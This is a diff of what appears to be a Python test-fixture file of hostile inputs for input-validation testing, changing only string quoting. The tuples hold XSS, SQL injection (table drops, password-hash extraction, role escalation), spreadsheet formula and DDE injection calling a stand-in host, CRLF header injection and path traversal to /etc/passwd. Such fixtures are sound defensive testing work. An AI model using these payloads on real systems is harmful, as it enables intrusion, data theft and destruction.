@@ -8,11 +8,11 @@ XSS = (
     "<form action=https://evil.invalid><input name=csrf_token>", "{{constructor.constructor('alert(1)')()}}", "{{7*7}}{% raw %}", "${alert(1)}", "[x](javascript:alert(1))", "javascript:alert(1)//\n", "data:text/html,<script>alert(1)</script>",
 )  # fmt: skip
 SQL = (
-    "'", "''", "' OR '1'='1", "' OR 1=1--", "'; DROP TABLE account;--", "'; DELETE FROM audit;--", "' UNION SELECT login, password_hash FROM account--", "\") OR (\"1\"=\"1",
+    "'", "''", "' OR '1'='1", "' OR 1=1--", "'; DROP TABLE account;--", "'; DELETE FROM audit;--", "' UNION SELECT login, password_hash FROM account--", '") OR ("1"="1',
     "1; UPDATE account SET role='operator'", "\\'; SELECT pg_sleep(9);--", "'||(SELECT password_hash FROM account LIMIT 1)||'", "%' AND 1=(SELECT 1)--", "_%", "$$;DROP TABLE permit;$$", "x'::text", "/**/OR/**/1=1", "' OR SLEEP(9)#",
 )  # fmt: skip
 FORMULAS = (
-    "=1+1", "=cmd|'/c calc'!A1", "+1+1", "-1+1", "@SUM(1+1)", "=HYPERLINK(\"https://evil.invalid\",\"x\")", "=WEBSERVICE(\"https://evil.invalid\")", "=IMPORTXML(\"https://evil.invalid\",\"//a\")", "\t=1+1", "\r=1+1", "＝1+1", "=DDE(\"cmd\";\"/c calc\";\"x\")",
+    "=1+1", "=cmd|'/c calc'!A1", "+1+1", "-1+1", "@SUM(1+1)", '=HYPERLINK("https://evil.invalid","x")', '=WEBSERVICE("https://evil.invalid")', '=IMPORTXML("https://evil.invalid","//a")', "\t=1+1", "\r=1+1", "＝1+1", '=DDE("cmd";"/c calc";"x")',
 )  # fmt: skip
 ODD_LETTERS = (
     "\u202egpj.exe", "\u2066x\u2069", "\u200b\u200b", "\ufeff", "a\u0300" * 60, "\x1b[2J\x1b[31m", "\x7f\x08\x08", "\r\nSet-Cookie: a=b", "\r\n\r\n<script>alert(1)</script>", "\U000e0041", "𝒶𝓁ℯ𝓇𝓉", "ﷺ" * 9, "\u0085x", "\u2028x", "%0d%0aLocation:https://evil.invalid", "../../../../etc/passwd", "file:///etc/passwd", "~root",
